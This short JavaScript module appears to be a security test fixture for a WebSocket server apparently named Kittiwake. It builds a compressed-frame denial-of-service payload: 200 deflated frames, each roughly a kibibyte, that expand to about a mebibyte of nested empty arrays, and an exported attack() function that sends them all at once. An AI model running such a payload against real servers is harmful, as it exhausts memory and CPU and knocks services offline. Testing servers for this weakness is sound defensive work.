/** Compression on: 200 frames of a KiB that become a MiB of small arrays each, in one go. */
import { deflateRawSync, constants } from 'node:zlib';

const FRAMES = 200;
const MASKED_WITH_ZEROS = Buffer.alloc(4);
const TRAILER_BYTES = 4;
const FIN_TEXT_COMPRESSED = 0xc1;
const handshake = [
  'GET /ws HTTP/1.1',
  'Host: a',
  'Connection: Upgrade',
  'Upgrade: websocket',
  'Sec-WebSocket-Version: 13',
  'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==',
  'Sec-WebSocket-Extensions: permessage-deflate; client_no_context_takeover',
  '\r\n',
].join('\r\n');
const text = `[${'[],'.repeat(349_000)}[]]`;
const payload = deflateRawSync(text, { finishFlush: constants.Z_SYNC_FLUSH }).subarray(0, -TRAILER_BYTES);
const header = Buffer.from([FIN_TEXT_COMPRESSED, 0x80 | 126, payload.length >> 8, payload.length & 0xff]);
const frame = Buffer.concat([header, MASKED_WITH_ZEROS, payload]);

export const environment = { KITTIWAKE_COMPRESSION_ENABLED: 'true' };

export async function attack(stranger) {
  await stranger.tcp(Buffer.concat([Buffer.from(handshake), ...Array.from({ length: FRAMES }, () => frame)]));
}
